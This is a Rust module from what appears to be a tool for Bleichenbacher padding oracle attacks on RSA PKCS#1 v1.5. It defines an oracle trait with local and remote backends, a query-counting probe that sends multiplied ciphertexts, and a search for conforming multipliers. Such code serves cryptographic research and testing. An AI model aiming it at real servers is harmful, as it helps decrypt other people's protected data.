use num::bigint::BigUint;
use num::One;

use crate::diagnostics::QueryCounter;
use crate::keys::PublicKey;

mod local;
mod remote;

pub use local::*;
pub use remote::*;

/// Errors for padding oracles
#[derive(Debug, thiserror::Error)]
pub enum Error {
    /// The oracle gave no answer; distinct from a negative answer
    #[error("oracle request failed: {0}")]
    Transport(#[from] reqwest::Error),
    #[error("query limit of {0} reached")]
    QueryLimit(u64),
}

/// PKCS#1 v1.5 padding oracle
///
/// Answers whether a ciphertext decrypts to a conforming block
pub trait Oracle {
    fn conforming(&mut self, c: &BigUint) -> Result<bool, Error>;
}

impl<O: Oracle + ?Sized> Oracle for Box<O> {
    fn conforming(&mut self, c: &BigUint) -> Result<bool, Error> {
        (**self).conforming(c)
    }
}

impl<O: Oracle + ?Sized> Oracle for &mut O {
    fn conforming(&mut self, c: &BigUint) -> Result<bool, Error> {
        (**self).conforming(c)
    }
}

/// Queries an oracle with multipliers of a fixed target ciphertext
///
/// A multiplier s is sent as c0 * s**e mod n. Every query is counted,
/// whether or not the oracle answered it from a cache.
pub struct Probe<O> {
    oracle: O,
    key: PublicKey,
    c0: BigUint,
    counter: QueryCounter,
    limit: Option<u64>,
}

impl<O: Oracle> Probe<O> {
    pub fn new(oracle: O, key: PublicKey, c0: BigUint) -> Self {
        Self {
            oracle,
            key,
            c0,
            counter: QueryCounter::new(),
            limit: None,
        }
    }

    /// Refuse queries past the given count
    pub fn with_limit(mut self, limit: Option<u64>) -> Self {
        self.limit = limit;
        self
    }

    /// Count queries on an existing counter
    pub fn with_counter(mut self, counter: QueryCounter) -> Self {
        self.counter = counter;
        self
    }

    pub fn key(&self) -> &PublicKey {
        &self.key
    }

    pub fn counter(&self) -> &QueryCounter {
        &self.counter
    }

    pub fn queries(&self) -> u64 {
        self.counter.get()
    }

    /// The ciphertext derived from multiplier s: c0 * s**e mod n
    pub fn mult(&self, s: &BigUint) -> BigUint {
        let n = self.key.n();
        (&self.c0 * s.modpow(self.key.e(), n)) % n
    }

    /// Ask the oracle whether multiplier s is conforming
    pub fn conforming(&mut self, s: &BigUint) -> Result<bool, Error> {
        if let Some(limit) = self.limit {
            if self.counter.get() >= limit {
                return Err(Error::QueryLimit(limit));
            }
        }

        let query = self.counter.increment();
        let c = self.mult(s);
        let res = self.oracle.conforming(&c)?;

        tracing::trace!(query, s = %s, conforming = res, "oracle query");

        Ok(res)
    }

    /// Smallest conforming multiplier >= start
    pub fn find_conforming(&mut self, start: BigUint) -> Result<BigUint, Error> {
        let mut s = start;
        while !self.conforming(&s)? {
            s += BigUint::one();
        }
        Ok(s)
    }
}
